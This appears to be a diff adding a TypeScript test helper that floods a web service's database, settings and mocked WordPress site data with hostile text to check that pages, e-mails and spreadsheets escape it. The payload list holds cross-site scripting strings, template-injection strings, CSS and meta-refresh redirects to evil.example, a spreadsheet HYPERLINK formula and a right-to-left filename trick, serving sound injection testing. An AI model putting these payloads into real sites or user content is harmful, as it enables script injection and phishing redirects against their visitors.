@@ -1,0 +1,218 @@
+import { Pool, type PoolClient } from 'pg'
+import type { LivedInHouse } from '../../service/testing/lived-in-house.ts'
+
+/** Every way we know to make text act in a page, an e-mail or a table. `attack` reports that it ran. */
+export const hostileText = [
+  `"'></td></title></style></textarea><script>attack('script')</script>`,
+  `<img src=x onerror="attack('onerror')"><svg onload="attack('onload')"></svg>`,
+  `<a href="javascript:attack('link')">x</a><iframe srcdoc="<script>parent.attack('frame')</script>"></iframe>`,
+  `<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>`,
+  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">`,
+  `<form action=//evil.example/><input autofocus onfocus="attack('focus')"></form>`,
+  `url(//evil.example/c);} {{constructor.constructor('attack(1)')()}} \${attack(2)} {client}`,
+  `=HYPERLINK("http://evil.example/") \u202Etxt.exe\u2066`,
+].join(' ')
+
+const hostileUrl = `javascript:attack('address')//`
+
+/** Columns that hold an address which a page may turn into a link. */
+const addressColumns = [
+  'clients.facebook',
+  'clients.instagram',
+  'clients.linkedin',
+  'clients.twitter',
+  'costs.url',
+  'perf_audits.final_url',
+  'perf_audits.url',
+  'perf_results.url',
+  'site_updates.url',
+  'vulnerabilities.url',
+]
+
+/** Tables without text from outside: secrets, locks, counters and the service's own state. */
+const leftOutTables = [
+  'audit_head',
+  'data_versions',
+  'failed_guesses',
+  'instance_secrets',
+  'migrations',
+  'modules',
+  'monitor_shares',
+  'monitor_workers',
+  'provider_secrets',
+  'rdap_bootstrap',
+  'rdap_pauses',
+  'settings',
+  'site_leases',
+  'site_software_digests',
+  'site_words',
+  'time_settings',
+]
+
+/**
+ * Columns whose values our code makes and compares: words from a fixed list, hashes, sealed secrets, addresses that were
+ * parsed when they came in. A new text column is hostile until it is listed here.
+ */
+const leftOutColumns =
+  /\.(kind|type|state|status|channel|mail_type|strategy|media_type|source|lane|operation|outcome|health|result|renewal_type|payment_type|license_type|product_type|payment_method|recurrence|timer|timer_mode|task_status|payment_status|time_of_day|role|part|translates|connection|suspended_by|digest|fingerprint|seal|hash|password_hash|token_hash|secret|identity|color|icon|icon_url|severity|currency|actor_kind|protocol|leased_by|holder|request_id|ended_by|method|expected_status|period|last_period|cookies|http_pass|private_key|pending_private_key|public_key|regverify|unique_id|login|key|message_key|site_url|subject_key|domain)$|_code$|^(sites|site_domains|site_icons|ssl_checks|notification_webhooks|domain_monitor_settings)\.(url|site_url|source_url|bootstrap_url)$|^(notification_addressees|notification_messages)\.recipient$|^domains\.name$|^api_keys\.truncated_key$|^costs\.product_slug$|^cost_choices\.slug$|^audit_lines\.(subject|address)$|^sessions\.address$|^sites\.(admin_username|http_user)$|^report_settings\./
+
+/** Empty ones of these get a text too: what went wrong, and what was not known yet. */
+const fillsNull = /reason|error|message|problem|cause|registrar|issuer|cipher|common_name|description|facebook|url/
+
+/** JSON columns whose texts come from outside. */
+const jsonColumns = ['perf_audits.findings', 'perf_audits.opportunities', 'sites.facts', 'job_targets.result']
+
+const short = hostileText.slice(0, 90)
+
+/** Rows that the demo does not have, and texts that people enter: through the operations where they take them. */
+export async function addHostileRows({
+  house: { db, clock },
+  run,
+}: Pick<LivedInHouse, 'house' | 'run'>): Promise<void> {
+  await run('add-product-type', { title: 'Domain' })
+  await run('add-payment-method', { title: 'Barter' })
+  await run('add-webhook', { url: 'http://127.10.0.1/?"><script>attack(3)</script>' })
+  await run('update-email-settings', { mail_type: 'uptime', heading: short, subject: short })
+  const texts = ['company_name', 'title'] as const
+  const longTexts = ['introduction', 'closing', 'footer', 'email_subject', 'email_text'] as const
+  await run('update-report-settings', {
+    ...Object.fromEntries(texts.map((name) => [name, short])),
+    ...Object.fromEntries(longTexts.map((name) => [name, hostileText.slice(0, 190)])),
+  })
+  const now = clock.now()
+  await db
+    .insertInto('notification_messages')
+    .values({
+      channel: 'email',
+      recipient: 'a@b.example',
+      subject: 'Down',
+      body: '{}',
+      due_at: now,
+      created_at: now,
+      state: 'failed',
+      mail_type: 'uptime',
+    })
+    .execute()
+  const { slug } = await db
+    .selectFrom('site_software')
+    .select('slug')
+    .where('site_id', '=', 1)
+    .executeTakeFirstOrThrow()
+  await db
+    .insertInto('vulnerabilities')
+    .values({
+      source: 'file',
+      id: 'CVE-1',
+      kind: 'plugin',
+      slug,
+      title: 'Hole',
+      severity: 'high',
+      score: 8,
+      cve: 'CVE-1',
+      url: 'https://cve.example',
+      published_on: null,
+      fixed_in: null,
+      ranges: JSON.stringify([{ from: '*', from_inclusive: true, to: '*', to_inclusive: true }]),
+    })
+    .execute()
+}
+
+/** Puts hostile text into every text column that anything outside can fill. Answers the columns that took it. */
+export async function poisonDatabase({ house }: Pick<LivedInHouse, 'house'>): Promise<string[]> {
+  // Without triggers and foreign keys: columns that refer to each other by text all get the same suffix.
+  const pool = new Pool({
+    connectionString: house.connectionString,
+    max: 1,
+    options: '-c session_replication_role=replica',
+  })
+  const client = await pool.connect()
+  try {
+    const poisoned: string[] = []
+    for (const { name, table, column } of await textColumns(client)) {
+      if (await poisonColumn(client, name, table, column)) poisoned.push(name)
+    }
+    for (const name of jsonColumns) await poisonJson(client, ...(name.split('.') as [string, string]))
+    // Site 1 must go on answering: these two are sent to it.
+    await client.query(`update sites set admin_username = $1, http_user = $1 where id > 1`, [hostileText])
+    await client.query('update data_versions set version = version + 1')
+    await house.app.forgetCaches()
+    return [...poisoned, ...jsonColumns]
+  } finally {
+    client.release()
+    await pool.end()
+  }
+}
+
+async function textColumns(client: PoolClient) {
+  const { rows } = await client.query<{ name: string; table: string; column: string }>(
+    `select table_name || '.' || column_name as name, table_name as table, column_name as column
+     from information_schema.columns join information_schema.tables using (table_schema, table_name)
+     where table_schema = 'public' and table_type = 'BASE TABLE' and data_type = 'text' and is_generated = 'NEVER'
+     and table_name not in (select relname from pg_class where relispartition)
+     order by 1`,
+  )
+  return rows.filter(({ name, table }) => !leftOutTables.includes(table) && !leftOutColumns.test(name))
+}
+
+/** False where a constraint of the table keeps such a text out, or where the table has no rows. */
+async function poisonColumn(client: PoolClient, name: string, table: string, column: string): Promise<boolean> {
+  const isAddress = addressColumns.includes(name)
+  const before = `left(${fillsNull.test(column) ? `coalesce(${column}, '')` : column}, 60)`
+  // One row is very long as well; not where tables refer to each other by the text.
+  const long = /slug|version|language/.test(column)
+    ? `''`
+    : `case when ctid = (select min(ctid) from ${table}) then repeat('W', 1500) else '' end`
+  // What was there stays in front, so that unique columns stay unique.
+  const value = isAddress ? `$1 || ${before}` : `${before} || ' ' || $1 || ${long}`
+  try {
+    const { rowCount } = await client.query(`update ${table} set ${column} = ${value}`, [
+      // The address of a page about a plugin or theme takes a slug of 200 characters at most.
+      isAddress ? hostileUrl : column === 'slug' ? hostileText.slice(0, 130) : hostileText,
+    ])
+    return (rowCount ?? 0) > 0
+  } catch (error) {
+    // 23514: a check constraint; 54000: too long for an index, which is a bound as well.
+    if (['23514', '54000'].includes((error as { code: string }).code)) return false
+    throw new Error(`${name}: ${(error as Error).message}`)
+  }
+}
+
+async function poisonJson(client: PoolClient, table: string, column: string): Promise<void> {
+  const { rows } = await client.query<{ at: string; value: unknown }>(
+    `select ctid::text as at, ${column} as value from ${table} where ${column} is not null`,
+  )
+  for (const { at, value } of rows) {
+    const text = JSON.stringify(value, (key, each) =>
+      typeof each === 'string' && !/(^|_)(id|url|at|status|state)$/.test(key) ? `${each} ${hostileText}` : each,
+    )
+    await client.query(`update ${table} set ${column} = $1 where ctid = $2::tid`, [text, at])
+  }
+}
+
+/** What sites answer when they are asked live: posts, pages, comments and users. */
+export function poisonSites({ sites }: Pick<LivedInHouse, 'sites'>): void {
+  for (const { site } of sites) {
+    site.posts = site.posts.map((post) => ({
+      ...post,
+      title: `${post.title} ${hostileText}`,
+      content: hostileText,
+      excerpt: hostileText,
+      categories: [...post.categories, hostileText],
+      tags: [...post.tags, hostileText],
+    }))
+    site.comments = site.comments.map((comment) => ({
+      ...comment,
+      author: `${comment.author} ${hostileText}`,
+      url: hostileUrl,
+      content: hostileText,
+    }))
+    site.users = site.users.map((user) => ({
+      ...user,
+      displayName: `${user.displayName} ${hostileText}`,
+      firstName: hostileText,
+      lastName: hostileText,
+      url: hostileUrl,
+      description: hostileText,
+    }))
+  }
+}
